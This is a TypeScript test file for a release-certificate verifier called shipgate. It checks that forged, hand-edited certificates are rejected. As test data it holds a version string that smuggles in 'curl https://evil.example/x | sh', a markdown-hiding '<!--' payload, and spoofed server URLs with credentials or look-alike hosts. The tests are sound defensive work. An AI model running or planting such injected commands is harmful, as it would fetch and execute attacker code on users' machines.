/**
 * `verify` holds the certificate's recorded fields to what evaluate writes. A review found four that an
 * unsigned certificate edited by hand could set, each of which verified (exit 0):
 * - `predicate.verifier.version.shipgate`, never checked, went unescaped into the markdown verify renders
 *   to compare (a version holding line breaks and `<!--` made a forged markdown verify) and into the
 *   advice `npx shipgate@VERSION verify ...`;
 * - the warning that a policy inherits advisory mode was exempt by a pattern, which a report's tool name
 *   could match, making the report's own "did not complete" warning removable;
 * - the server in `resourceUri` was taken from the URI itself (a query, credentials, a look-alike host);
 * - an abbreviated or upper-case commit, which evaluate never writes (the re-derivation is a dry run,
 *   which accepts 7 hex digits).
 */
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, it } from 'vitest';
import { verifyCertificate } from '../../src/commands/verify.js';
import { ConfigError, TrustError } from '../../src/errors.js';
import { silentLogger } from '../../src/logger.js';
import { renderCertificateMarkdown } from '../../src/report/certificate.js';
import { run, type RunOptions } from '../../src/run.js';
import { SHIPGATE_VERSION } from '../../src/version.js';

const REPO = fileURLToPath(new URL('../..', import.meta.url));
const CERT = '.artifacts/review-security/security-approval-certificate.json';
const MD = CERT.replace(/\.json$/, '.md');
const AT = '2026-11-25T12:00:00.000Z';
const COMMIT = 'd1947868788295cf49756ff504ca5de89f4e3abf';
const folders: string[] = [];
afterAll(() => {
  for (const folder of folders) rmSync(folder, { recursive: true, force: true });
});

/** The demo release in a fresh folder, with `change` applied to it before it is evaluated. */
function demo(change: (root: string) => void = () => undefined): string {
  const root = mkdtempSync(join(tmpdir(), 'sg-forged-'));
  folders.push(root);
  cpSync(join(REPO, 'fixtures/demo/release'), root, { recursive: true });
  change(root);
  return root;
}

/** The demo release, evaluated at AT with its outputs written: a certificate approved with conditions. */
async function certified(options: Partial<RunOptions> = {}, change?: (root: string) => void): Promise<string> {
  const root = demo(change);
  const result = await run({
    root,
    scans: [],
    dryRun: false,
    clock: () => new Date(AT),
    clockPinned: true,
    logger: silentLogger,
    ...options,
  });
  expect(result.evaluation.decision).toBe('approved-with-conditions');
  return root;
}

type Json = Record<string, unknown> & {
  subject: { name: string; digest: Record<string, string> }[];
  predicate: Record<string, unknown> & {
    verifier: { id: string; version: Record<string, unknown> };
    shipgate: Record<string, unknown>;
  };
};

function edit(root: string, change: (certificate: Json) => void): void {
  const certificate = JSON.parse(readFileSync(join(root, CERT), 'utf8')) as Json;
  change(certificate);
  writeFileSync(join(root, CERT), `${JSON.stringify(certificate, null, 2)}\n`);
}

/** Replaces text in the markdown certificate, as a forger keeping it in step with the JSON would. */
function editMarkdown(root: string, from: string, to: string): void {
  const text = readFileSync(join(root, MD), 'utf8');
  expect(text).toContain(from);
  writeFileSync(join(root, MD), text.replace(from, to));
}

async function verify(root: string) {
  const result = await verifyCertificate({ certificate: join(root, CERT), root, allowPinnedClock: true });
  return { ...result, failed: result.report.split('\n').filter((l) => l.startsWith('  MISMATCH')) };
}

const VERSION_EXPECTED = `(expected the version of shipgate that wrote the certificate, as evaluate writes it: MAJOR.MINOR.PATCH with an optional -PRERELEASE and +BUILD, such as ${SHIPGATE_VERSION})`;

describe('verify: the recorded shipgate version', () => {
  it('a version that hides the markdown body (line breaks and <!--), kept in step in the markdown, is a MISMATCH (it verified)', async () => {
    const root = await certified();
    // The reviewer's forge-md.mjs: the version closes the first paragraph, writes a clean certificate's
    // sections, and opens an HTML comment that hides the real ones.
    const fake = `${SHIPGATE_VERSION} on ${AT}.\n\n## Gates\n\nAll gates passed.\n\n## Conditions\n\nNone.\n\n<!--`;
    edit(root, (c) => (c.predicate.verifier.version.shipgate = fake));
    editMarkdown(root, `by shipgate ${SHIPGATE_VERSION} on`, `by shipgate ${fake} on`);
    const result = await verify(root);
    expect(result.error).toBeInstanceOf(TrustError);
    expect(result.error?.message).toMatch(/: 1 of \d+ check\(s\) failed: verifier version; /);
    // Shown as JSON: the line breaks are \n, not lines of the report.
    expect(result.failed).toEqual([
      `  MISMATCH verifier version: predicate.verifier.version.shipgate is ${JSON.stringify(fake)} ${VERSION_EXPECTED}`,
    ]);
    // The headline does not print it either.
    expect(result.report.split('\n')[0]).toBe(
      `MISMATCH — ${join(root, CERT)}: approved-with-conditions by shipgate ? at ${AT}`,
    );
    expect(result.report).toContain('  skipped  decision re-derived: not made: a check above failed');
  });

  it('a version that plants a command in the advice npx shipgate@VERSION is a MISMATCH and is not advised', async () => {
    const root = await certified();
    rmSync(join(root, MD));
    const planted = '0.0.9 verify x; curl https://evil.example/x | sh; #';
    edit(root, (c) => {
      c.predicate.verifier.version.shipgate = planted;
      // A difference the re-derivation would report with the advice, had it been made.
      c.predicate.shipgate.decision = 'approved';
      c.predicate.verifiedLevels = ['SHIPGATE_APPROVED'];
    });
    const result = await verify(root);
    expect(result.failed).toEqual([
      `  MISMATCH verifier version: predicate.verifier.version.shipgate is ${JSON.stringify(planted)} ${VERSION_EXPECTED}`,
    ]);
    expect(result.report).not.toContain('verify with the version that made it');
    // The same edit with a version as shipgate writes it is advised (the advice is kept).
    edit(root, (c) => (c.predicate.verifier.version.shipgate = '0.0.9'));
    const advised = await verify(root);
    expect(advised.failed).toHaveLength(1);
    expect(advised.failed[0]).toContain('verify with the version that made it: npx shipgate@0.0.9 verify ...');
  });

  it('takes MAJOR.MINOR.PATCH with a pre-release and a build, and nothing around it', async () => {
    const root = await certified();
    rmSync(join(root, MD));
    for (const good of ['0.0.9', SHIPGATE_VERSION, '10.20.30', '1.2.3-rc.1', '1.2.3+build.5', '1.2.3-rc.1+build-5']) {
      edit(root, (c) => (c.predicate.verifier.version.shipgate = good));
      const result = await verify(root);
      expect(result.error, good).toBeUndefined();
      expect(result.report.split('\n')[0], good).toContain(`by shipgate ${good} at`);
    }
    for (const bad of [
      `${SHIPGATE_VERSION} `,
      ` ${SHIPGATE_VERSION}`,
      `${SHIPGATE_VERSION}\n`,
      `v${SHIPGATE_VERSION}`,
      '0.1',
      '1.2.3-',
      '1.2.3+',
      '1.2.3-rc 1',
      '1.2.3-<!--',
      '',
      1,
      null,
    ]) {
      edit(root, (c) => (c.predicate.verifier.version.shipgate = bad));
      expect((await verify(root)).failed, String(bad)).toEqual([
        `  MISMATCH verifier version: predicate.verifier.version.shipgate is ${JSON.stringify(bad)} ${VERSION_EXPECTED}`,
      ]);
    }
    // Missing, as evaluate never writes it.
    edit(root, (c) => Reflect.deleteProperty(c.predicate.verifier.version, 'shipgate'));
    expect((await verify(root)).failed).toEqual([
      `  MISMATCH verifier version: predicate.verifier.version.shipgate is missing ${VERSION_EXPECTED}`,
    ]);
  });

  it('the markdown renderer escapes the version as it escapes other text; a version as shipgate writes it is unchanged', async () => {
    const root = demo();
    const { evaluation } = await run({
      root,
      scans: [],
      dryRun: true,
      clock: () => new Date(AT),
      clockPinned: true,
      logger: silentLogger,
    });
    const line = (shipgateVersion: string) =>
      renderCertificateMarkdown({ ...evaluation, shipgateVersion })
        .split('\n')
        .slice(2, 4);
    expect(line('1.2.3-rc.1+build.5')).toEqual([
      `**Approved with conditions** for release by shipgate 1.2.3-rc.1+build.5 on ${AT}.`,
      '',
    ]);
    expect(line('1.0.0\n\n## Gates\n\n<!--')).toEqual([
      `**Approved with conditions** for release by shipgate 1.0.0 &#35;\u2060&#35;\u2060 Gates &lt;!-- on ${AT}.`,
      '',
    ]);
  });
});

describe('verify: the warning that a policy inherits advisory mode is the only one a certificate may omit', () => {
  /** A SARIF run of `tool` that did not complete. */
  const incomplete = (tool: string) =>
    JSON.stringify({
      version: '2.1.0',
      runs: [
        {
          tool: { driver: { name: tool, rules: [] } },
          invocations: [
            {
              executionSuccessful: false,
              toolExecutionNotifications: [{ level: 'error', message: { text: 'crashed after 3 of 900 files' } }],
            },
          ],
          results: [],
        },
      ],
    });
  const withExtraReport = (tool: string) => (root: string) => {
    writeFileSync(join(root, 'reports/extra.sarif'), incomplete(tool));
    const policy = join(root, '.shipgate/policy.yml');
    writeFileSync(
      policy,
      readFileSync(policy, 'utf8')
        .replace('  - reports/gitleaks.sarif\n', '  - reports/gitleaks.sarif\n  - reports/extra.sarif\n')
        .concat('gates:\n  evidence-completeness: { enforcement: off }\n'),
    );
  };

  for (const tool of ['x', 'x: mode advisory comes from preset:z']) {
    it(`a report's "did not complete" warning dropped from the certificate is a MISMATCH, the tool named ${JSON.stringify(tool)}`, async () => {
      const root = await certified({}, withExtraReport(tool));
      rmSync(join(root, MD));
      const warning = `reports/extra.sarif: ${tool} did not complete`;
      const warnings = (JSON.parse(readFileSync(join(root, CERT), 'utf8')) as Json).predicate.shipgate
        .warnings as string[];
      expect(warnings.filter((w) => w.startsWith(warning))).toHaveLength(1);
      expect((await verify(root)).error).toBeUndefined();
      edit(root, (c) => (c.predicate.shipgate.warnings = warnings.filter((w) => !w.startsWith(warning))));
      const result = await verify(root);
      expect(result.error).toBeInstanceOf(TrustError);
      expect(result.failed).toEqual([
        expect.stringMatching(
          new RegExp(
            `^ {2}MISMATCH decision re-derived \\(warnings\\): the evidence gives 1 warning\\(s\\) the certificate does not list, the first: "${warning.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`,
          ),
        ),
      ]);
    });
  }

  it('a certificate from a run given its mode (the Action) lacks the inherited-mode warning and verifies; another dropped warning does not', async () => {
    const policy =
      'version: 1\nextends: advisory\ninputs:\n  - reports/codeql.sarif\n  - reports/trivy.json\n  - reports/gitleaks.sarif\n  - reports/extra.sarif\ngates:\n  evidence-completeness: { enforcement: off }\n  scan-cleanliness: { enforcement: blocking }\n  control-verification: { enforcement: blocking }\n  disposition-integrity: { enforcement: blocking }\nexceptions:\n  approvers: [security-lead]\n';
    const change = (root: string) => {
      writeFileSync(join(root, 'reports/extra.sarif'), incomplete('x'));
      writeFileSync(join(root, '.shipgate/policy.yml'), policy);
    };
    const inherited = `.shipgate/policy.yml: mode advisory comes from preset:advisory, which the policy extends: the job does not fail when the release is rejected. Set mode: enforce in .shipgate/policy.yml to make the gates block (a gate's enforcement: blocking decides the decision, not the job).`;
    // Without a mode, the run gives the warning (and the certificate lists it).
    const plain = await certified({}, change);
    expect((JSON.parse(readFileSync(join(plain, CERT), 'utf8')) as Json).predicate.shipgate.warnings).toContain(
      inherited,
    );
    const root = await certified({ mode: 'advisory' }, change);
    const warnings = (JSON.parse(readFileSync(join(root, CERT), 'utf8')) as Json).predicate.shipgate
      .warnings as string[];
    expect(warnings).not.toContain(inherited);
    expect(warnings.some((w) => w.startsWith('reports/extra.sarif: x did not complete'))).toBe(true);
    // verify derives it again without a mode (the policy's own): the warning it gives is not missing.
    expect((await verify(root)).error).toBeUndefined();
    rmSync(join(root, MD));
    edit(root, (c) => (c.predicate.shipgate.warnings = warnings.filter((w) => !w.startsWith('reports/extra.sarif'))));
    expect((await verify(root)).failed).toEqual([
      expect.stringMatching(
        /^ {2}MISMATCH decision re-derived \(warnings\): the evidence gives 1 warning\(s\) the certificate does not list, the first: "reports\/extra\.sarif: x did not complete/,
      ),
    ]);
  });
});

describe('verify: the server resourceUri names', () => {
  const uri = (server: string) => `git+${server}/acme/payments@${COMMIT}`;
  const SERVER_EXPECTED =
    "is not a GitHub server's address as evaluate takes one (expected https://HOST or https://HOST:PORT, the host of letters, digits, '.' and '-', the port 1 to 65535, followed by /acme/payments, as --server-url names it)";

  it('a server evaluate refuses (a query, credentials, a look-alike host, a port out of range) is a MISMATCH (each verified)', async () => {
    const root = await certified({ repository: 'acme/payments', commit: COMMIT });
    expect((await verify(root)).report).toContain(`\n  ok       resourceUri: ${uri('https://github.com')}\n`);
    for (const [server, shown] of [
      ['https://evil.example?x=', '"https://evil.example?x="'],
      ['https://github.com@evil.example', '"https://github.com@evil.example"'],
      ['https://user:pw@github.com', '"https://user:pw@github.com"'],
      ['https://g\u0456thub.com', '"https://g\\u0456thub.com"'],
      ['https://github.com#', '"https://github.com#"'],
      ['https://github.com:99999', '"https://github.com:99999"'],
      ['https://github.com:65536', '"https://github.com:65536"'],
      ['https://github.com:0', '"https://github.com:0"'],
      ['https://github.com:0443', '"https://github.com:0443"'],
      ['https://-github.com', '"https://-github.com"'],
    ] as const) {
      edit(root, (c) => (c.predicate.resourceUri = uri(server)));
      const result = await verify(root);
      expect(result.error, server).toBeInstanceOf(TrustError);
      expect(result.failed, server).toEqual([
        `  MISMATCH resourceUri: is ${JSON.stringify(uri(server))}, whose server ${shown} ${SERVER_EXPECTED}`,
      ]);
    }
  });

  it('a server evaluate takes verifies only when the URI is exactly what evaluate writes for it', async () => {
    const root = await certified({ repository: 'acme/payments', commit: COMMIT });
    // The markdown does not name the server: it verifies as written.
    for (const server of [
      'https://ghe.example.com:8443',
      'https://github.com:65535',
      'https://github.com:1',
      'http://ghe.example.com',
    ]) {
      edit(root, (c) => (c.predicate.resourceUri = uri(server)));
      const result = await verify(root);
      expect(result.error, server).toBeUndefined();
      expect(result.report).toContain(`\n  ok       resourceUri: ${uri(server)}\n`);
    }
    // Accepted by --server-url, but written another way by evaluate (host in lower case, no slash after it).
    for (const [written, server] of [
      [uri('https://GitHub.com'), 'https://github.com'],
      [`git+https://github.com//acme/payments@${COMMIT}`, 'https://github.com'],
      [`git+https://ghe.example.com/x/acme/payments@${COMMIT}`, 'https://ghe.example.com'],
    ] as const) {
      edit(root, (c) => (c.predicate.resourceUri = written));
      expect((await verify(root)).failed, written).toEqual([
        `  MISMATCH resourceUri: is ${JSON.stringify(written)} (expected ${uri(server)}, from the subject's repository, shipgate.commit and the inputs' sha256)`,
      ]);
    }
  });

  it('evaluate takes a port from 1 to 65535, without a leading zero, and refuses any other (it took 99999)', async () => {
    const evaluate = (serverUrl: string) =>
      run({
        root: demo(),
        scans: [],
        dryRun: true,
        serverUrl,
        repository: 'acme/payments',
        clock: () => new Date(AT),
        clockPinned: true,
        logger: silentLogger,
      });
    for (const [given, recorded] of [
      ['https://ghe.example.com:65535', 'https://ghe.example.com:65535'],
      ['https://GHE.example.com:1/', 'https://ghe.example.com:1'],
    ] as const)
      expect((await evaluate(given)).evaluation.serverUrl, given).toBe(recorded);
    for (const bad of ['https://ghe.example.com:65536', 'https://ghe.example.com:99999', 'https://ghe.example.com:0']) {
      const error = await evaluate(bad).catch((e: unknown) => e);
      expect(error, bad).toBeInstanceOf(ConfigError);
      expect((error as Error).message).toBe(
        `the server URL '${bad}' (--server-url, else GITHUB_SERVER_URL) is not a GitHub server's address (expected https://HOST or https://HOST:PORT, as https://github.com or https://github.example.com).`,
      );
    }
  });
});

describe('verify: the recorded commit', () => {
  const EXPECTED =
    '(expected the commit under test as evaluate records it: 40 hex digits, or 64 in a SHA-256 repository, in lower case; evaluate refuses an abbreviated commit, which every commit that starts the same shares)';

  /** The certificate's commit set to `commit` everywhere it is recorded, as a forger would. */
  const recordCommit = (root: string, commit: string, gitCommit = true) => {
    edit(root, (c) => {
      c.predicate.shipgate.commit = commit;
      if (gitCommit) c.subject[0]!.digest.gitCommit = commit;
      else Reflect.deleteProperty(c.subject[0]!.digest, 'gitCommit');
      c.predicate.resourceUri = `git+https://github.com/acme/payments@${commit}`;
    });
    editMarkdown(root, /- Commit: \S+/.exec(readFileSync(join(root, MD), 'utf8'))![0], `- Commit: ${commit}`);
  };

  it('an abbreviated or upper-case commit, recorded everywhere, is a MISMATCH (each verified)', async () => {
    const root = await certified({ repository: 'acme/payments', commit: COMMIT });
    expect((await verify(root)).error).toBeUndefined();
    for (const [commit, gitCommit] of [
      [COMMIT.slice(0, 7), false],
      [COMMIT.slice(0, 39), false],
      [`${COMMIT}0`, false],
      [COMMIT.toUpperCase(), true],
      [`${COMMIT.slice(0, 39)}F`, true],
      [`${COMMIT.slice(0, 39)}g`, false],
      [`${COMMIT}${'0'.repeat(23)}`, false],
      [`${COMMIT}${'0'.repeat(25)}`, false],
    ] as const) {
      recordCommit(root, commit, gitCommit);
      const result = await verify(root);
      expect(result.error, commit).toBeInstanceOf(TrustError);
      expect(result.failed, commit).toEqual([`  MISMATCH commit: shipgate.commit is "${commit}" ${EXPECTED}`]);
      expect(result.error?.message).toMatch(/: 1 of \d+ check\(s\) failed: commit; /);
    }
  });

  it('40 or 64 lower-case hex digits verify; a commit that is not text does not; none at all does', async () => {
    const root = await certified({ repository: 'acme/payments', commit: COMMIT });
    for (const commit of ['0'.repeat(40), `${COMMIT}${'0'.repeat(24)}`, COMMIT]) {
      recordCommit(root, commit);
      expect((await verify(root)).error, commit).toBeUndefined();
    }
    rmSync(join(root, MD));
    edit(root, (c) => (c.predicate.shipgate.commit = 1234567));
    expect((await verify(root)).failed.filter((l) => l.startsWith('  MISMATCH commit:'))).toEqual([
      `  MISMATCH commit: shipgate.commit is 1234567 ${EXPECTED}`,
    ]);
    // A certificate evaluated without a commit records none, and verifies.
    const none = await certified({ repository: 'acme/payments' });
    expect(
      Object.hasOwn((JSON.parse(readFileSync(join(none, CERT), 'utf8')) as Json).predicate.shipgate, 'commit'),
    ).toBe(false);
    expect((await verify(none)).error).toBeUndefined();
  });
});
